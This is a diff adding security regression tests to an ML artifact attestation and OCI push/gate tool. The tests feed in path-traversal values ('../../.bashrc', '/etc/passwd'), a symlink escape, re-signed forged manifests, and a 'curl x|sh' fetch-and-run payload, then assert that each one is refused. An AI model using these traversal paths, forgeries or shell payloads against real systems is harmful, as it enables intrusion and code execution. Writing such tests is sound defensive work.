@@ -62,15 +62,20 @@ def test_files_digest_is_the_directory_subject_digest(demo: Demo) -> None:
 def _unbound_package(demo: Demo, tmp_path: Path) -> Path:
     """Repro r1: the runner (pipeline key) keeps the package subject digest A but points its
     manifest annotation at a manifest of B = A + sitecustomize.py; the deploy-phase chain is re-signed."""
+    evil = tmp_path / "pkgB"
+    shutil.copytree(demo.package, evil)
+    (evil / "sitecustomize.py").write_text("import os\n")
+    _resign_package(demo, encode(digest_path(evil).files))
+    return evil
+
+
+def _resign_package(demo: Demo, data: bytes) -> None:
+    """The package stage's manifest annotation now names ``data`` (kept in blobs/); chain and head re-signed."""
     from mlspec_attest.attest.head import sign_head
     from mlspec_attest.keys import load_signer
     from mlspec_attest.model.canonical import canonicalize
     from mlspec_attest.model.envelope import pae
 
-    evil = tmp_path / "pkgB"
-    shutil.copytree(demo.package, evil)
-    (evil / "sitecustomize.py").write_text("import os\n")
-    data = encode(digest_path(evil).files)
     forged = hashlib.sha256(data).hexdigest()
     (demo.bundle / "blobs" / forged).write_bytes(data)
     signer, prev = load_signer(demo.root / "keys" / "pipeline.key"), None
@@ -94,7 +99,6 @@ def _unbound_package(demo: Demo, tmp_path: Path) -> Path:
             Path(f).write_bytes(canonicalize(env))
     os.remove(demo.bundle / "head.dsse.json")
     sign_head(demo.bundle, [signer], timedelta(hours=24), initial=True)
-    return evil
 
 
 def test_a_package_manifest_not_bound_to_its_digest_is_refused_on_disk(demo: Demo, tmp_path: Path) -> None:
@@ -216,3 +220,89 @@ def test_a_polyglot_manifest_and_index_is_refused(demo: Demo, repo: OciReference
         result = gate(through.with_digest(pd), demo.policy, tmp_path / "w", plain_http=True, log_dir=demo.log)
         assert not result.report.passed
         assert "OCI_MANIFEST_INVALID" in _codes(result.report)
+
+
+# -- H6: paths in signed manifests and layer titles ------------------------------------------
+BAD_PATHS = ["../../.bashrc", "/etc/passwd", "a/../../b", "a//b", "a/./b", ".", "a/", "a\\b", "a\x00b", "a\nb",
+             "x\x7f", ""]
+
+
+@pytest.mark.parametrize("path", BAD_PATHS)
+def test_a_manifest_path_that_could_escape_is_refused(path: str) -> None:
+    from mlspec_attest.manifest import parse
+
+    with pytest.raises(ValueError, match="path"):
+        parse(encode([(path, "0" * 64)]), "m")
+
+
+@pytest.mark.parametrize("path", BAD_PATHS)
+def test_a_layer_title_that_could_escape_is_refused(path: str) -> None:
+    from mlspec_attest.oci.layout import check_title
+
+    with pytest.raises(LayoutError):
+        check_title(path, "layer")
+
+
+def test_a_signed_package_manifest_with_a_dotdot_path_is_refused_on_disk(demo: Demo) -> None:
+    """Attack (r6): the runner signs a package manifest listing ``../../.bashrc``; verify without --artifact."""
+    files = sorted([*digest_path(demo.package).files, ("../../.bashrc", hashlib.sha256(b"curl x|sh\n").hexdigest())])
+    _resign_package(demo, encode(files))
+    report = verify_bundle(demo.bundle, demo.policy, (), phase="deploy")
+    assert not report.passed
+    assert "PACKAGE_MANIFEST_INVALID" in _codes(report)
+    assert any("../../.bashrc" in f.message for f in report.findings)
+
+
+def test_push_refuses_a_signed_dotdot_path_and_never_reads_outside(demo: Demo, repo: OciReference,
+                                                                  tmp_path: Path) -> None:
+    """Attack (r6): push read ``ARTIFACT/../../.bashrc`` and uploaded it as a layer."""
+    from mlspec_attest.errors import InputError
+    from mlspec_attest.oci.push import push
+
+    outside = tmp_path / "x"
+    (outside / "y").mkdir(parents=True)
+    shutil.copytree(demo.package, outside / "y" / "pkg")
+    (tmp_path / ".bashrc").write_bytes(b"curl x|sh\n")
+    files = sorted([*digest_path(demo.package).files, ("../../.bashrc", hashlib.sha256(b"curl x|sh\n").hexdigest())])
+    _resign_package(demo, encode(files))
+    report = verify_bundle(demo.bundle, demo.policy, (), phase="deploy")
+    with pytest.raises(InputError, match=r"\.\./\.\./\.bashrc"):
+        push(report, demo.bundle, outside / "y" / "pkg", repo, plain_http=True)
+
+
+def test_push_never_opens_a_file_through_a_symlink_out_of_the_artifact(demo: Demo, repo: OciReference,
+                                                                       tmp_path: Path) -> None:
+    from mlspec_attest.errors import InputError
+    from mlspec_attest.oci.push import push
+
+    copy = tmp_path / "pkg"
+    shutil.copytree(demo.package, copy)
+    secret = tmp_path / "secret"
+    (copy / "model.pkl").rename(secret)
+    (copy / "model.pkl").symlink_to(secret)
+    with pytest.raises(InputError, match="not a regular file inside"):
+        push(demo.report(), demo.bundle, copy, repo, plain_http=True)
+
+
+def test_the_gate_refuses_a_model_layer_title_that_is_not_a_plain_path(demo: Demo, repo: OciReference,
+                                                                        hostile: HostileRegistry,
+                                                                        tmp_path: Path) -> None:
+    """Attack (r6, registry): a model layer titled ``../../.bashrc`` next to the packaged ones, chain re-attached."""
+    from mlspec_attest.oci.layout import FILE_MEDIA_TYPE, TITLE, descriptor_of
+
+    client, through, chain = _pushed(demo, repo, hostile)
+    got = client.get_manifest(str(through.digest))
+    assert got is not None
+    model = Manifest.from_dict(parse_json(got[0]), "model")
+    evil = descriptor_of(FILE_MEDIA_TYPE, b"curl x|sh\n", {TITLE: "../../.bashrc"})
+    client.upload_bytes(b"curl x|sh\n", evil)
+    forged = Manifest(model.artifact_type, model.config, (*model.layers, evil), annotations=model.annotations)
+    client.put_manifest(forged.encode(), "forged")
+    subject = Descriptor(MANIFEST_MEDIA_TYPE, forged.descriptor().digest, forged.descriptor().size, {})
+    moved = Manifest(chain.artifact_type, chain.config, chain.layers, subject=subject, annotations=chain.annotations)
+    client.put_manifest(moved.encode(), moved.descriptor().digest)
+    client.put_manifest(encode_index([moved.descriptor()]), fallback_tag(subject.digest), media_type=INDEX_MEDIA_TYPE)
+    result = gate(repo.with_digest(subject.digest), demo.policy, tmp_path / "w", plain_http=True, log_dir=demo.log)
+    assert not result.report.passed
+    assert "OCI_LAYER_MISMATCH" in _codes(result.report)
+    assert any("not plain relative paths" in f.message for f in result.report.findings)
